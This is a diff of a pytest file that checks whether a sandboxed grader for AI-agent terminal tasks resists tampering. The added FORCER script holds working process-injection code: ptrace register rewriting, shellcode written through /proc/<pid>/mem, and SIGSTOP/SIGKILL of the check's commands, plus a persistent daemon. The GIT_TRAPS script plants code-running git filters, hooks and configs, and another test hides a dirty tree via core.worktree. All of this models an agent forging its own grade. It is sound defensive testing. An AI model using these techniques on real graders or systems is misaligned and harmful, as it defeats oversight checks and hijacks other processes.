@@ -10,10 +10,13 @@ doing nothing scores 0.0. These run as root (as CI does): each session has a uid
 
 from __future__ import annotations
 
+import json
 import os
 import secrets
+import shlex
 import subprocess
 import sys
+import tempfile
 import time
 from collections.abc import Callable, Iterator
 from concurrent.futures import Future, ThreadPoolExecutor
@@ -27,7 +30,7 @@ import pytest
 REPO = Path(__file__).resolve().parents[2]
 sys.path.insert(0, str(REPO / "environments" / "terminal" / "tests"))
 
-from terminal_testkit import ENV_DIR, client_of, play, terminal_grader  # noqa: E402
+from terminal_testkit import ENV_DIR, client_of, play, script_blocks, terminal_grader  # noqa: E402
 
 from openenv_sdk.client import GenericEnvClient  # noqa: E402
 from openenv_sdk.providers import LocalProcessProvider  # noqa: E402
@@ -402,7 +405,8 @@ def test_git_traps_do_not_run_even_for_plain_git_commands_in_a_check(served: Ser
 
 
 def test_fake_pass_lines_printed_by_the_agents_script_do_not_change_the_verdict(served: Served) -> None:
-    """The agent's script (which the check runs) forges `PASS:` and `RESULT:` lines into the check's own output."""
+    """The agent's script (which the check runs) tries to forge `PASS:` and `RESULT:` lines into the check's
+    own output through /proc/<pid>/fd/1: it runs in a sandbox of its own, where no process of the check is."""
     forger = (
         "#!/bin/bash\n"
         "for fd in /proc/[0-9]*/fd/1 /proc/[0-9]*/fd/2; do\n"
@@ -417,8 +421,9 @@ def test_fake_pass_lines_printed_by_the_agents_script_do_not_change_the_verdict(
         bash(client, "chmod +x bin/greet")
         score = grade(terminal_grader.TerminalGrader(), client)
         evidence = score.evidence["check_passes"]
-        assert "PASS: forged" in evidence["output"]  # the forgery reached the check's output...
-        assert score.value == 0.0 and evidence["exit_code"] != 0  # ...and changed nothing
+        assert "PASS: forged" not in evidence["output"]  # the check's streams are not in its sandbox
+        assert "forged" not in " ".join(evidence["passed"])
+        assert score.value == 0.0 and evidence["exit_code"] != 0
 
 
 def test_the_workspace_folder_is_removed_after_close_and_reset(served: Served) -> None:
@@ -435,6 +440,306 @@ def test_the_workspace_folder_is_removed_after_close_and_reset(served: Served) -
         assert second.is_dir()
     assert wait_for(lambda: not second.parent.exists()), "the folder outlived the session"
     assert host_processes_named(tag) == []
+
+
+# --- the check's own processes: ptrace, /proc/<pid>/mem, signals, daemons -------------------------
+
+FORCER = r"""#!/usr/bin/env python3
+# The agent's attack on the check that runs it (through a git filter, hook or driver, or as the
+# program the check runs): make every bash it can see exit 0 (ptrace: exit_group(0) at a syscall
+# instruction; a write of the same code at its pc through /proc/<pid>/mem), stop and kill the
+# check's other commands, and leave a daemon that keeps writing files while later conditions run.
+import ctypes, json, os, signal, sys, time
+
+ME = os.getpid()
+SHELLCODE = b"\xb8\xe7\x00\x00\x00\x31\xff\x0f\x05"  # mov eax, 231; xor edi, edi; syscall
+libc = ctypes.CDLL(None, use_errno=True)
+libc.ptrace.restype = ctypes.c_long
+libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+FIELDS = "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs"
+
+
+class Regs(ctypes.Structure):
+    _fields_ = [(name, ctypes.c_ulonglong) for name in FIELDS.split()]
+
+
+def parent(pid):
+    try:
+        return int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
+    except (OSError, ValueError, IndexError):
+        return 0
+
+
+def ancestors():
+    chain, pid = [], parent(ME)
+    while pid > 1:
+        chain.append(pid)
+        pid = parent(pid)
+    return chain
+
+
+def gadget(pid):
+    try:
+        maps = open(f"/proc/{pid}/maps").read().splitlines()
+        with open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
+            for line in maps:
+                span, perms = line.split()[:2]
+                if "x" not in perms:
+                    continue
+                start, end = (int(x, 16) for x in span.split("-"))
+                mem.seek(start)
+                found = mem.read(min(end - start, 1 << 22)).find(b"\x0f\x05")
+                if found >= 0:
+                    return start + found
+    except (OSError, ValueError):
+        return 0
+    return 0
+
+
+def ptrace_exit_zero(pid):
+    if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
+        return False
+    try:
+        os.waitpid(pid, 0x40000000)  # __WALL
+    except ChildProcessError:
+        pass
+    regs = Regs()
+    libc.ptrace(12, pid, None, ctypes.byref(regs))  # PTRACE_GETREGS
+    at = gadget(pid)
+    if at:
+        regs.rip, regs.rax, regs.rdi, regs.orig_rax = at, 231, 0, 2**64 - 1
+    else:
+        regs.orig_rax, regs.rdi = 231, 0  # a restarted syscall becomes exit_group(0)
+    libc.ptrace(13, pid, None, ctypes.byref(regs))  # PTRACE_SETREGS
+    libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
+    return True
+
+
+def mem_exit_zero(pid):
+    try:
+        pc = int(open(f"/proc/{pid}/syscall").read().split()[-1], 16)
+        with open(f"/proc/{pid}/mem", "r+b", buffering=0) as mem:
+            mem.seek(pc)
+            mem.write(SHELLCODE)
+        return True
+    except (OSError, ValueError, IndexError):
+        return False
+
+
+def uid_of(pid):
+    try:
+        return os.stat(f"/proc/{pid}").st_uid
+    except OSError:
+        return -1
+
+
+def visible():
+    # processes of its own uid only: the checks it attacks ran as that uid (and this test file
+    # must never signal anything else of the machine it runs on)
+    return [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != ME and uid_of(int(p)) == os.getuid()]
+
+
+def attack():
+    done = []
+    chain = [pid for pid in ancestors() if uid_of(pid) == os.getuid()]
+    for pid in chain:
+        if mem_exit_zero(pid):
+            done.append(f"mem:{pid}")
+        if ptrace_exit_zero(pid):
+            done.append(f"ptrace:{pid}")
+    for pid in visible():
+        if pid in chain:
+            continue
+        for sig in (signal.SIGSTOP, signal.SIGKILL):
+            try:
+                os.kill(pid, sig)
+                done.append(f"{sig.name}:{pid}")
+            except OSError:
+                pass
+    return done
+
+
+def daemon(files):
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            end = time.time() + 30
+            while time.time() < end:
+                for path, text in files.items():
+                    try:
+                        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
+                        with open(path, "w") as f:
+                            f.write(text)
+                        os.chmod(path, 0o755)
+                    except OSError:
+                        pass
+                time.sleep(0.05)
+        os._exit(0)
+
+
+if os.getuid() == 0:
+    sys.exit("forcer: not as root")
+try:  # a trace that it ran (the liveness checks of the tests read it)
+    open(".git/forcer-ran" if os.path.isdir(".git") else "forcer-ran", "a").close()
+except OSError:
+    pass
+here = os.path.dirname(os.path.abspath(__file__))
+try:
+    files = json.load(open(os.path.join(here, ".daemon.json")))
+except (OSError, ValueError):
+    files = {}
+if files:
+    daemon({os.path.join(here, k): v for k, v in files.items()})
+done = attack()
+sys.stderr.write(f"forcer: {done}\n")
+print("wrong")
+"""
+
+HONEST_GREET = '#!/bin/sh\necho "Hello, ${1:-world}!"\n'
+PROGRAM_TASKS = {
+    # task: (the path the check runs, extra setup, what the daemon keeps writing relative to the forcer)
+    "greet_script": ("bin/greet", "", {"greet": HONEST_GREET}),
+    "stats_py": ("stats.py", "", {}),
+    "csv2json": ("csv2json.py", "", {"example.json": '[{"id": "1", "name": "Ann", "city": "Oslo"}]'}),
+    "fix_deploy_script": ("deploy.sh", "", {"out/api/version.txt": "2.4.1"}),
+    "rotate_backups": ("rotate.sh", "", {}),
+    "fix_fibonacci": ("fib.py", "", {}),
+}
+
+
+def _install_forcer(client: GenericEnvClient, path: str, daemon_files: dict[str, str]) -> None:
+    """The program the check runs is the forcer (a script the check runs through python3 or its shebang)."""
+    folder = path.rsplit("/", 1)[0] if "/" in path else "."
+    client.call_tool("write_file", path=f"{folder}/.forcer.py", content=FORCER)
+    client.call_tool("write_file", path=f"{folder}/.daemon.json", content=json.dumps(daemon_files))
+    if path.endswith(".py"):
+        client.call_tool("write_file", path=path, content=FORCER)
+    else:
+        client.call_tool("write_file", path=path, content='#!/bin/sh\nexec python3 "$(dirname "$0")/.forcer.py" "$@"\n')
+    bash(client, f"chmod +x {path} {folder}/.forcer.py")
+
+
+def _assert_check_ran_to_its_end_and_failed(evidence: dict[str, Any]) -> None:
+    assert evidence["exit_code"] == 1 and not evidence["timed_out"], evidence
+    assert "RESULT:" in evidence["output"] and evidence["failed"], evidence
+
+
+CONTROL_UID = 61999
+"""A uid nothing else on the machine uses (below the sandboxes' leased range)."""
+
+
+def test_control_the_forcer_makes_a_failing_bash_exit_zero_where_it_can_reach_it() -> None:
+    """Control, on the host without a sandbox: the forcer, run by a bash of its own uid that would
+    exit 1, makes it exit 0 (ptrace and /proc/<pid>/mem, same uid, no Yama on this kernel): what
+    the checks faced when the agent's code ran in their uid and pid namespace. (Run as a uid of
+    its own, so that it can reach nothing else; the forcer refuses to run as root.)"""
+    with tempfile.TemporaryDirectory(prefix="forcer-control-") as folder:  # readable by the control's uid
+        os.chmod(folder, 0o755)
+        Path(folder, "forcer.py").write_text(FORCER)
+        script = f"echo 'FAIL: one'; python3 {folder}/forcer.py >/dev/null 2>&1; echo 'FAIL: two'; exit 1"
+        drop = ["setpriv", f"--reuid={CONTROL_UID}", f"--regid={CONTROL_UID}", "--clear-groups", "--"]
+        done = subprocess.run([*drop, "/bin/bash", "-c", script], capture_output=True, text=True, timeout=60)
+    assert done.returncode == 0 and done.stdout == "FAIL: one\n", done
+
+
+@pytest.mark.parametrize("task_id", sorted(PROGRAM_TASKS))
+def test_the_program_a_check_runs_cannot_reach_the_check(served: Served, task_id: str) -> None:
+    """The program the task asks for is the forcer: it tries ptrace, /proc/<ppid>/mem, kill -STOP and
+    kill of the check's commands, and a daemon; it runs in a sandbox of its own, sees none of the
+    check, and the check runs to its end: 0.0."""
+    path, _, daemon_files = PROGRAM_TASKS[task_id]
+    with served.client() as client:
+        client.reset(task_id=task_id)
+        _install_forcer(client, path, daemon_files)
+        score = grade(terminal_grader.TerminalGrader(), client)
+        evidence = score.evidence["check_passes"]
+        assert score.value == 0.0, evidence
+        _assert_check_ran_to_its_end_and_failed(evidence)
+        if task_id == "greet_script":  # the daemon did not fix bin/greet for the later conditions
+            assert "it runs from another directory" in evidence["failed"], evidence
+
+
+GIT_TASKS = ("git_cherry_pick", "git_init_commit", "git_merge_conflict", "git_revert", "git_untrack_files")
+GIT_TRAPS = r"""
+set -e
+cd "$REPO"
+cp "$FORCER" .git/forcer.py
+run='python3 .git/forcer.py'
+git config filter.x.clean "$run"
+git config filter.x.smudge "$run"
+git config filter.x.required true
+git config diff.x.textconv "$run"
+git config diff.external "$run"
+git config core.fsmonitor "$run"
+git config core.pager "$run"
+git config core.editor "$run"
+git config alias.st "!$run"
+mkdir -p .git/myhooks
+git config core.hooksPath .git/myhooks
+printf '[core]\n\tfsmonitor = %s\n\tpager = %s\n' "$run" "$run" > .git/included.cfg
+git config include.path included.cfg
+git config 'includeIf.gitdir:/.path' included.cfg
+for h in pre-commit post-commit post-checkout post-merge post-index-change reference-transaction fsmonitor-watchman; do
+  printf '#!/bin/sh\nexec python3 .git/forcer.py\n' > .git/hooks/$h; cp .git/hooks/$h .git/myhooks/$h
+  chmod +x .git/hooks/$h .git/myhooks/$h
+done
+printf '* filter=x diff=x\n' > .gitattributes
+mkdir -p .git/info && printf '* filter=x diff=x\n' > .git/info/attributes
+mkdir -p sub && cd sub && git init -q && git config core.fsmonitor "python3 ../.git/forcer.py" && cd ..
+"""
+
+
+@pytest.mark.parametrize("task_id", GIT_TASKS)
+def test_git_filters_drivers_hooks_and_includes_cannot_reach_the_check(served: Served, task_id: str) -> None:
+    """The five checks that run `git status`, against every git trap at once (clean/smudge filter,
+    textconv, external diff, fsmonitor, pager, editor, alias, hooks and hooksPath, include and
+    includeIf, .gitattributes and info/attributes, a nested repository's config),
+    each running the forcer; the task itself is left undone: 0.0, and the check runs to its end."""
+    with served.client() as client:
+        client.reset(task_id=task_id)
+        repo = "project" if task_id == "git_init_commit" else "repo"
+        if task_id == "git_init_commit":  # a wrong attempt: the .log files committed, no .gitignore
+            bash(client, "cd project && git init -q -b main && git add -A && git commit -qm 'Initial commit' && cd ..")
+        client.call_tool("write_file", path=".forcer.py", content=FORCER)
+        bash(client, f"REPO={repo} FORCER=$PWD/.forcer.py bash -c {shlex.quote(GIT_TRAPS)} && rm .forcer.py")
+        bash(client, f"cd {repo} && git ls-files -z | xargs -0 touch && (git status --porcelain >/dev/null 2>&1 &) ; sleep 1; cd ..")
+        assert "live" in bash(client, f"test -e {repo}/.git/forcer-ran && echo live; rm -f {repo}/.git/forcer-ran {repo}/forcer-ran")
+        score = grade(terminal_grader.TerminalGrader(), client)
+        evidence = score.evidence["check_passes"]
+        assert score.value == 0.0, evidence
+        _assert_check_ran_to_its_end_and_failed(evidence)
+
+
+def test_core_worktree_pointing_at_a_clean_copy_does_not_hide_a_change(served: Served) -> None:
+    """git_merge_conflict solved, then a tracked file changed and `core.worktree` pointed at a clean
+    copy of the tree: the agent's git says clean; the check's git reads the real tree: 0.0."""
+    with served.client() as client:
+        client.reset(task_id="git_merge_conflict")
+        for block in script_blocks("git_merge_conflict", "solution"):
+            bash(client, block)
+        root = workdir(client)
+        bash(client, f"cd {root}/repo && mkdir .git/fake && git archive HEAD | tar -x -C .git/fake && "
+                     "echo dirty >> VERSION && git config core.worktree \"$PWD/.git/fake\"")  # fmt: skip
+        assert bash(client, f"cd {root}/repo && git status --porcelain") == "[exit code 0]"  # live
+        score = grade(terminal_grader.TerminalGrader(), client)
+        evidence = score.evidence["check_passes"]
+        assert score.value == 0.0 and evidence["failed"] == ["the working tree is clean"], evidence
+
+
+def test_a_git_trap_in_a_solved_task_changes_nothing(served: Served) -> None:
+    """Control for the traps: the reference solution of git_merge_conflict with every trap planted
+    after it still scores 1.0 (trusted git reads the repository, not the agent's settings)."""
+    with served.client() as client:
+        client.reset(task_id="git_merge_conflict")
+        for block in script_blocks("git_merge_conflict", "solution"):
+            bash(client, block)
+        root = workdir(client)
+        client.call_tool("write_file", path=f"{root}/.forcer.py", content=FORCER)  # the solution left the shell in repo/
+        traps = GIT_TRAPS.replace("printf '* filter=x diff=x\\n' > .gitattributes\n", "")
+        bash(client, f"cd {root} && REPO=repo FORCER=$PWD/.forcer.py bash -c {shlex.quote(traps)} && rm -rf repo/sub .forcer.py")
+        assert "filter.x.clean" in bash(client, f"git -C {root}/repo config --list --local")
+        score = grade(terminal_grader.TerminalGrader(), client)
+        assert score.value == 1.0, score.evidence
 
 
 # --- controls -----------------------------------------------------------------------------------
